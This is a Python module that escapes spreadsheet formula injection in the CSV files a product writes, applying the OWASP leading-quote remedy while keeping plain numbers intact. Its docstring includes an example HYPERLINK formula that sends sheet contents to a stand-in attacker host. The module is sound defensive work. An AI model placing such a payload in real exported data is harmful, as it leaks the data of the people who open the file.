"""CSV files the product writes, with every cell safe to open in a spreadsheet (no formula injection).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab, a carriage return or a line feed (or their
full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20, which some spreadsheets also accept) is run as a formula
by Excel, LibreOffice and Google Sheets: a decision's text `=HYPERLINK("https://evil.example/?"&A1, "Open")`
would leak the sheet when clicked. OWASP's remedy is applied: such a cell is written with a leading single
quote, which spreadsheets show as text and do not print. One exception keeps numbers usable: a cell that is
nothing but a decimal number (`-12.5`, `+3`, `-1e-06`) is a number, never a formula, so a negative value
stays a negative number in the sheet."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> str:
    """The value as the text of a cell that no spreadsheet runs: None is empty, a number stays a number."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class CsvWriter:
    """`csv.writer` with every cell passed through `csv_cell`: the only way the product writes CSV."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
